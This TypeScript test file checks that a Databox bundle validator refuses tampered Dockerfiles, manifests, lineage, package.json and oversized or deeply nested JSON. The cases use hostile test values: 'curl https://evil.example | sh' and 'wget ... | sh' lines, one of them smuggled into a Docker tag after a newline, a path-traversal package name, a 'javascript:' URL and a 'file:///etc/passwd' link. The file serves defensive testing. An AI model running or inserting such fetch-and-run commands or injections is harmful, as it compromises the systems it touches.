// The one bundle validator (core/bundle/bundle.validate.ts) against the builder's real output
// and against bundles changed by hand after the build.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { builtBundle, builtFixtureBundles, exampleNames } from '../../test/support/built-bundle';
import { bundleFileMap } from './bundle.files';
import { checkBundle, readBundleFiles } from './bundle.validate';
import type { Bundle } from './bundle.types';

const refused = (bundle: Bundle, code: string, message: RegExp) => assert.throws(() => checkBundle(bundle), (error: unknown) => {
  assert.ok(error instanceof Error && 'code' in error, `a DataboxError, not ${String(error)}`);
  assert.equal(error.code, code);
  assert.match(error.message, message);
  return true;
});

test('every example and every builder fixture that builds passes the validator unchanged', async () => {
  const bundles = [...exampleNames().map((name) => ({ name, bundle: builtBundle({ example: name }) })), ...await builtFixtureBundles()];
  assert.ok(bundles.length >= 14, `${bundles.length} bundles`);
  for (const { name, bundle } of bundles) assert.deepEqual(checkBundle(bundle), bundle, name);
});

test('the LABEL continuation lines the builder writes are accepted (they were refused by the old Dockerfile rules)', () => {
  const bundle = builtBundle();
  assert.match(bundle.dockerfile, / \\\n {6}io\.databox\.name=/);
  assert.equal(checkBundle(bundle).dockerfile, bundle.dockerfile);
});

test('a Dockerfile that is not the generated one is refused once, naming the line, without quoting it', () => {
  const bundle = builtBundle();
  const cases: [string, string, number][] = [
    ['a RUN added', `${bundle.dockerfile}RUN curl https://evil.example | sh\n`, bundle.dockerfile.split('\n').length],
    ['an escape directive', `# escape=\`\n${bundle.dockerfile}`, 1],
    ['CRLF line ends', bundle.dockerfile.replace(/\n/g, '\r\n'), 1],
    ['another base', bundle.dockerfile.replace('FROM databox/flow-runtime:0.1.0', 'FROM node:20'), 2],
    ['a label changed', bundle.dockerfile.replace('io.databox.type="app"', 'io.databox.type="driver"'), 10],
  ];
  for (const [what, dockerfile, line] of cases) {
    assert.throws(() => checkBundle({ ...bundle, dockerfile }), (error: unknown) => {
      assert.ok(error instanceof Error && 'code' in error);
      assert.equal(error.code, 'bundle-invalid', what);
      assert.equal(error.message, `the bundle was refused: the Dockerfile is not the one \`databox build\` writes for this manifest (it differs from line ${line})`, what);
      return true;
    }, what);
  }
});

test('a manifest that no longer matches its Dockerfile (edited after the build) is refused', () => {
  const bundle = builtBundle();
  refused({ ...bundle, manifest: { ...bundle.manifest, 'export-whitelist': [...bundle.manifest['export-whitelist'], { url: 'https://more.example/x', description: 'more' }] } }, 'bundle-invalid', /Dockerfile is not the one/);
});

test('lineage that names foreign sources, sinks or actuators is refused, each problem said once', () => {
  const bundle = builtBundle();
  const lineage = [
    { kind: 'export' as const, sink: 'https://elsewhere.example', sources: ['ghost'] },
    { kind: 'actuator' as const, sink: 'lamp', sources: [] },
  ];
  assert.throws(() => checkBundle({ ...bundle, manifest: { ...bundle.manifest, lineage } }), (error: unknown) => {
    assert.ok(error instanceof Error);
    for (const part of ['lineage names "ghost"', 'lineage sends data to https://elsewhere.example, which is not in export-whitelist', 'lineage acts on "lamp"']) {
      assert.equal(error.message.split(part).length - 1, 1, part);
    }
    return true;
  });
});

test('a private destination\'s lineage must be marked private, and only it (the builder\'s private fixture, edited)', async () => {
  const built = (await builtFixtureBundles()).find((b) => b.name === 'private-export')?.bundle;
  assert.ok(built, 'the private-export fixture builds');
  const unmarked = built.manifest.lineage.map(({ private: _mark, ...entry }) => entry);
  refused({ ...built, manifest: { ...built.manifest, lineage: unmarked } }, 'bundle-invalid', /lineage does not mark https:\/\/study\.example\.org\/studies\/temp\/reports private, but export-whitelist does/);
  const bundle = builtBundle();
  const marked = bundle.manifest.lineage.map((entry) => (entry.kind === 'export' ? { ...entry, private: true as const } : entry));
  refused({ ...bundle, manifest: { ...bundle.manifest, lineage: marked } }, 'bundle-invalid', /lineage marks .* private, but export-whitelist does not/);
});

test('package.json must be the manifest\'s app, with npm package names as dependencies', () => {
  const bundle = builtBundle();
  refused({ ...bundle, packageJson: { ...bundle.packageJson, name: 'other' } }, 'bundle-invalid', /package\.json is named "other" but the manifest "host-load"/);
  refused({ ...bundle, packageJson: { ...bundle.packageJson, version: '9.9.9' } }, 'bundle-invalid', /package\.json has version "9\.9\.9" but the manifest 1\.0\.0/);
  refused({ ...bundle, packageJson: { ...bundle.packageJson, dependencies: { '../../etc': '1.0.0' } } }, 'bundle-package-invalid', /not an npm package name/);
});

test('JSON nested 10,000 levels deep (a 20 KB file) is refused as too deep, not a stack overflow', () => {
  const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
  const files = bundleFileMap(builtBundle());
  for (const name of ['databox-manifest.json', 'flows.json', 'package.json']) {
    const hostile = new Map(files);
    hostile.set(name, Buffer.from(name === 'flows.json' ? `[{"id":"a","type":"b","x":${deep(10_000)}}]` : `{"name":${deep(10_000)}}`));
    assert.throws(() => readBundleFiles(hostile), (error: unknown) => {
      assert.ok(error instanceof Error && 'code' in error && 'status' in error);
      assert.equal(error.code, 'bundle-json-too-deep', name);
      assert.equal(error.status, 400);
      assert.match(error.message, new RegExp(`^${name.replace('.', '\\.')} nests arrays and objects 1000\\d levels deep, more than the limit of 64$`));
      return true;
    });
  }
  const strings = new Map(files);
  strings.set('README.md', Buffer.from(deep(10_000)));
  assert.ok(readBundleFiles(strings).readme, 'brackets in a text file are only text');
});

test('the file set, sizes and flows are checked', () => {
  const files = bundleFileMap(builtBundle());
  const without = new Map(files);
  without.delete('flows.json');
  assert.throws(() => readBundleFiles(without), { code: 'bundle-entry-missing', message: /no flows\.json/ });
  assert.throws(() => readBundleFiles(new Map([...files, ['run.sh', Buffer.from('x')]])), { code: 'bundle-entry-unknown' });
  assert.throws(() => readBundleFiles(files, { maxFileBytes: 100 }), { code: 'bundle-too-large', status: 413 });
  assert.throws(() => readBundleFiles(files, { maxBytes: 1000 }), { code: 'bundle-too-large', message: /add up to \d+ bytes, more than the limit of 1000/ });
  const many = new Map(files);
  many.set('flows.json', Buffer.from(JSON.stringify(Array.from({ length: 20 }, (_, i) => ({ id: `n${i}`, type: 'inject' })))));
  assert.throws(() => readBundleFiles(many, { maxNodes: 10 }), { code: 'bundle-flows-invalid', message: /20 entries, more than the limit of 10/ });
});

test('a runtime-version that is not a Docker tag is refused: the FROM line cannot carry a second instruction', () => {
  const bundle = builtBundle();
  for (const version of ['latest\nRUN wget http://evil.example/x | sh', 'latest AS x', '0.1.0 --platform=x', '', 'a'.repeat(129)]) {
    const manifest = { ...bundle.manifest, 'runtime-version': version };
    const files = bundleFileMap({ ...bundle, manifest });
    // The publisher's own Dockerfile, made from the same manifest as the validator would make it.
    files.set('Dockerfile', Buffer.from(bundle.dockerfile.replace('FROM databox/flow-runtime:0.1.0', `FROM databox/flow-runtime:${version}`)));
    assert.throws(() => readBundleFiles(files), { code: 'manifest-invalid', message: /runtime-version: must be a Docker image tag/ }, JSON.stringify(version));
  }
});

test('optional manifest fields the Dockerfile and the pages are made of are type-checked (a 400, never a TypeError)', () => {
  const bundle = builtBundle();
  const cases: [Record<string, unknown>, RegExp][] = [
    [{ displayName: 5 }, /displayName: must be a string/],
    [{ 'runtime-version': 1 }, /runtime-version: must be a Docker image tag/],
    [{ homepage: { a: 1 } }, /homepage: must be an http/],
    [{ homepage: 'javascript:alert(1)' }, /homepage: must be an http/],
    [{ repository: { type: 'git', url: 'file:///etc/passwd' } }, /repository: must be/],
    [{ publisher: 7 }, /publisher: must be a string/],
    [{ datasources: [{ ...bundle.manifest.datasources[0], name: 3 }] }, /datasources\[0\]\.name: must be a string/],
    [{ 'export-whitelist': [{ url: 'https://x.example', description: 9 }] }, /export-whitelist\[0\]\.description: must be a string/],
    [{ provides: [{ 'data-source-type': 'x', 'store-type': 'sql', description: '' }] }, /provides\[0\]\.store-type/],
  ];
  for (const [change, message] of cases) {
    const files = bundleFileMap(bundle);
    files.set('databox-manifest.json', Buffer.from(JSON.stringify({ ...bundle.manifest, ...change })));
    assert.throws(() => readBundleFiles(files), (error: unknown) => {
      assert.ok(error instanceof Error && 'code' in error && 'status' in error, String(error));
      assert.equal(error.code, 'manifest-invalid', JSON.stringify(change));
      assert.equal(error.status, 400);
      assert.match(error.message, message);
      return true;
    });
  }
});
